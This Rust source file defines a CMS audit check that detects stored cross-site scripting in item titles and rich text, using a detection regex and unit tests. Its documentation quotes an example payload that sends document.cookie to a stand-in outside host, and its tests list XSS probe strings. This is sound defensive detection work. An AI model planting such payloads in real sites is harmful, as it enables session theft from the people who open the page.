//! `security.script-in-content`: program code in places that editors fill.

use std::sync::LazyLock;

use regex::Regex;

use crate::checks::{Check, Docs, ItemUnit, Run, Thresholds, Wave};
use crate::model::{Capability, Confidence, Failure, Severity, Verdict};

/// Markup that runs, in a title. "JavaScript: an introduction" and "a < b onto c = d" are titles, not code.
static IN_TITLE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?is)<script\b|<[a-z][^<>]*[\s/"']on[a-z]{3,}\s*=|<iframe[^<>]*\bsrcdoc\s*=|javascript:[^\s()]+\(|<[a-z][^<>]*=\s*["']?\s*javascript:"#,
    )
    .expect("the pattern is constant and tested")
});

/// The check.
pub static CHECK: Check = Check {
    id: "security.script-in-content",
    version: 1,
    title: "Script stored in content",
    severity: Severity::High,
    confidence: Confidence::Firm,
    wave: Wave::Core,
    applies: &[],
    needs: &[Capability::Content],
    settings: &[],
    docs: Docs {
        looks_at: "Title and rich texts of every item in every state. It fails for `<script>`, event handlers such as \
                   `onclick=`, `javascript:` addresses and `srcdoc`. Code shown as an example is text, not markup, \
                   and passes.",
        why: "Whoever opens the page runs the code with their own login. It may be an innocent widget, or somebody \
              who waits for an administrator to preview the draft.",
        fix: "Remove it, put widgets into the template or a block made for them, and restrict the text format so \
              that editors cannot store scripts.",
        example: "<img src=x onerror=\"fetch('//elsewhere.example/'+document.cookie)\">",
        sources: &[
            "Drupal security_review `Field`, `InputFormats`",
            "OWASP XSS Prevention Cheat Sheet",
            "CWE-79",
        ],
    },
    run: Run::Item(run),
};

fn run(unit: &ItemUnit<'_>, _: &Thresholds) -> Verdict {
    let mut samples: Vec<String> = unit
        .outlines
        .iter()
        .flat_map(|it| {
            it.outline
                .scripts
                .iter()
                .map(move |script| format!("{}: {} {}", it.field, script.construct, script.snippet))
        })
        .collect();
    if let Some(found) = IN_TITLE.find(&unit.item.title) {
        let snippet: String = found.as_str().chars().take(80).collect();
        samples.insert(0, format!("title: {snippet}"));
    }
    let message = match samples.len() {
        0 => return Verdict::Pass,
        1 => "the item stores a construct that runs code".to_owned(),
        n => format!("the item stores {n} constructs that run code"),
    };
    Verdict::Fail(Failure::new(message).with_samples("scripts", samples))
}

#[cfg(test)]
mod tests {
    use super::CHECK;
    use crate::checks::links::fixture::{body, failure, item, judge_item};
    use crate::model::outline::Script;
    use crate::model::{Outline, State, Verdict};

    fn judge_title(title: &str) -> Verdict {
        let mut it = item();
        it.title = title.to_owned();
        judge_item(&CHECK, &it, &[])
    }

    #[test]
    fn scripts_of_a_draft_are_found_too() {
        let mut draft = item();
        draft.state = State::Draft;
        let script = Script { construct: "handler", snippet: "onclick=\"сделать()\"".to_owned() };
        let outline = Outline { scripts: vec![script.clone(), script], ..Outline::default() };
        let found = failure(judge_item(&CHECK, &draft, &[body(outline)]));
        assert_eq!(found.evidence.0["scripts_total"], 2);
    }

    #[test]
    fn code_in_a_title_fails() {
        for title in [
            "Hi <script>alert(1)</script>",
            "<SCRIPT src=//x>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "javascript:alert(1)",
            "<a href=' javascript:x'>",
        ] {
            failure(judge_title(title));
        }
    }

    #[test]
    fn titles_that_speak_about_code_pass() {
        for title in [
            "JavaScript: The Good Parts",
            "JavaScript:入門",
            "&lt;script&gt; explained",
            "onclick= or addEventListener",
            "a < b, on time = good",
            "",
        ] {
            assert_eq!(judge_title(title), Verdict::Pass, "{title}");
        }
    }
}
